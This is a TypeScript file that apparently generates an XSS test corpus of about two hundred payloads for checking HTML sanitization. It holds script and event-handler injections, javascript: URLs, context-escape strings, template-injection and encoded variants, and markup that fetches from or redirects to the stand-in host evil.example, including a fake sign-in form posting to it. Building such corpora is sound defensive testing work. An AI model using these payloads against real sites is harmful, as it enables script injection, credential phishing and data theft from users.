/**
 * Texts that run as script when somebody shows them carelessly, of our own making: each way in, with each way to call. All call
 * `__pwn()`, raise a dialog, navigate or fetch from `evil.example`; `evil.invalid` never resolves either way.
 */

export const calls = [
  '__pwn()',
  'window["__pw"+"n"]()',
  'alert(1)',
  'location="//evil.example/"',
  'fetch("//evil.example/")',
];

/** Elements that run something by themselves, or when they are touched. */
export const elements: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  (call) => `<script/x>${call}</script/y>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<img src=x onerror=${quoted(call)}>`,
  (call) => `<img/src/onerror=${quoted(call)}>`,
  (call) => `<img src=x:x onerror\n=\n${quoted(call)} `,
  (call) => `<svg onload=${quoted(call)}>`,
  (call) => `<svg/onload=${quoted(call)}//`,
  (call) => `<svg><animate onbegin=${quoted(call)} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${quoted(call)} attributeName=x>`,
  (call) => `<body onload=${quoted(call)} onpageshow=${quoted(call)}>`,
  (call) => `<input onfocus=${quoted(call)} autofocus>`,
  (call) => `<select autofocus onfocus=${quoted(call)}>`,
  (call) => `<textarea autofocus onfocus=${quoted(call)}>`,
  (call) => `<p contenteditable autofocus onfocus=${quoted(call)} onmouseover=${quoted(call)} tabindex=1>x</p>`,
  (call) => `<details open ontoggle=${quoted(call)}>x</details>`,
  (call) => `<video src=x onerror=${quoted(call)}><source onerror=${quoted(call)}></video>`,
  (call) => `<audio src onerror=${quoted(call)}>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${attribute(call)}</script>"></iframe>`,
  (call) => `<object data="javascript:${attribute(call)}"></object><embed src="javascript:${attribute(call)}">`,
  (call) => `<a href="javascript:${attribute(call)}" autofocus onfocus=${quoted(call)}>click</a>`,
  (call) => `<form action="javascript:${attribute(call)}"><button autofocus onfocus=${quoted(call)}>x</button></form>`,
  (call) => `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=${quoted(call)}>x</b>`,
  (call) => `<math><mtext></p><mglyph><style><!--</style><img src=x onerror=${quoted(call)}>`,
  (call) =>
    `<template><script>${call}</script></template><noscript><p title="</noscript><img src=x onerror=${quoted(call)}>">`,
];

/** Ways out of where a text may have been put. */
export const exits = [
  '"',
  "'",
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</style>',
  '-->',
  ']]>',
  '</p></article></li></ol>',
  '`',
  '\\";',
];

/** Whatever fetches, leads away or rewrites the page without a line of script. */
export const quiet: readonly string[] = [
  '<img src=//evil.example/a.png>',
  '<img srcset="//evil.example/b.png 1x">',
  '<link rel=stylesheet href=//evil.example/c.css>',
  '<link rel=preload as=image href=//evil.example/d.png>',
  '<link rel=prefetch href=//evil.example/d2>',
  '<style>@import "//evil.example/e.css";body{display:none}</style>',
  '<p style="background:url(//evil.example/f.png)">x</p>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<iframe src=//evil.example/></iframe>',
  '<video poster=//evil.example/g.png></video>',
  '<object data=//evil.example/h></object>',
  '<svg><image href=//evil.example/i.png /><use href=//evil.example/j.svg#x /></svg>',
  '<form action=//evil.example/><input name=email><button>Sign in</button></form>',
  '<input type=image src=//evil.example/k.png>',
  '<table background=//evil.example/l.png><tr><td>x</table>',
  '<plaintext>',
  '<textarea>',
  '<title>',
  '<xmp>',
  '<!--',
  '<![CDATA[',
  '<noembed>',
  '<h1>Another headline</h1>',
  '</main></body></html>',
  '<p id=content><a id=comments name=respond>x</a>',
  '<marquee behavior=alternate>x',
  '<dialog open>x</dialog>',
  '[click](javascript:__pwn())',
  '![x](//evil.example/m.png)',
  '<javascript:__pwn()>',
  '<https://evil.example/>',
  'javascript:__pwn()//',
  'data:text/html,<script>opener.__pwn()</script>',
  '{{constructor.constructor("__pwn()")()}}',
  '${__pwn()}',
  '<%= __pwn() %>',
  '+ADw-script+AD4-__pwn()+ADw-/script+AD4-',
  '&lt;script&gt;__pwn()&lt;/script&gt;',
  '&#60;img src=x onerror=__pwn()&#62;',
  '%3Cscript%3E__pwn()%3C/script%3E',
  '\\u003cscript\\u003e__pwn()\\u003c/script\\u003e',
  '＜script＞__pwn()＜/script＞',
  '"onmouseover="__pwn()"autofocus onfocus="__pwn()"x="',
  "' style=animation:x onanimationstart=__pwn() x='",
  ' autofocus onfocus=__pwn() ',
];

/** About two hundred, each once. */
export const scripts: readonly string[] = [
  ...elements.flatMap((element, index) =>
    [0, 1, 2, 3].map((turn) => element(calls[(index + turn) % calls.length] ?? '')),
  ),
  ...exits.flatMap((exit, index) =>
    [0, 9, 18].map((turn) => exit + (elements[(index + turn) % elements.length]?.('__pwn()') ?? '')),
  ),
  ...quiet,
  ...exits.map((exit) => `${exit} autofocus onfocus=__pwn() onmouseover=__pwn() x=${exit}`),
];

export function quoted(call: string): string {
  return `"${attribute(call)}"`;
}

function attribute(text: string): string {
  return text.replaceAll('"', '&quot;');
}
